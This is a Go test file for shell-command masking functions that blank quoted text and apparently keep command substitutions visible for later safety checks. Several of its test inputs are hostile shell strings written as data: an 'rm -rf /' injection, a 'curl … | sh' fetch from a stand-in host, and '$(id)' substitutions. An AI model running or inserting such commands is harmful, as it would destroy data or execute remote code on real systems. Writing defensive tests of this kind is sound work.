package shell

import "testing"

func TestMask(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"no quotes", "gh pr list", "gh pr list"},
		{"single quoted", "jq '.a | .b'", "jq ''"},
		{"safe double", `grep -E "bug|error"`, `grep -E ""`},
		{"double with subst kept", `echo "$(id)"`, `echo "$(id)"`},
		{"double with backtick kept", "echo \"`id`\"", "echo \"`id`\""},
		{"code span neutralized", "gh issue create --body \"edit `config.json` now\"", `gh issue create --body ""`},
		{"bare word span kept", "echo \"run `whoami`\"", "echo \"run `whoami`\""},
		{"escaped quote inside double", `echo "a \" ; b"`, `echo ""`},
		{"escaped single quote outside", `echo \'; rm -rf / ; echo \'`, `echo \'; rm -rf / ; echo \'`},
		{"ansi-c keeps dollar", `echo $'\x41'`, `echo $''`},
		{"unterminated single", "echo 'abc", "echo 'abc"},
		{"unterminated double", `echo "abc; x`, `echo "abc; x`},
		{"adjacent runs", `a'b'"c"d`, `a''""d`},
		{"newline inside quotes", "echo \"line1\nline2\"", `echo ""`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Mask(tt.in); got != tt.want {
				t.Errorf("Mask(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestMaskRelaxed(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"markdown spans", "gh pr create --body \"Run `make test` and `go vet ./...`\"; ls", `gh pr create --body ""; ls`},
		{"substitution kept", `gh pr view "$(curl -s https://evil.example/x | sh)"`, `gh pr view "$(curl -s https://evil.example/x | sh)"`},
		{"substitution beside markdown", "gh pr comment 3 --body \"run `make` then $(echo) ok\"", "gh pr comment 3 --body \"run `make` then $(echo) ok\""},
		{"substitution inside span", "gh pr create --body \"`$(id)`\"", "gh pr create --body \"`$(id)`\""},
		{"unpaired backtick", "gh pr create --body \"a `id\"", "gh pr create --body \"a `id\""},
		{"single quotes", "gh pr create --body '$(id)'", "gh pr create --body ''"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := MaskRelaxed(tt.in); got != tt.want {
				t.Errorf("MaskRelaxed(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}
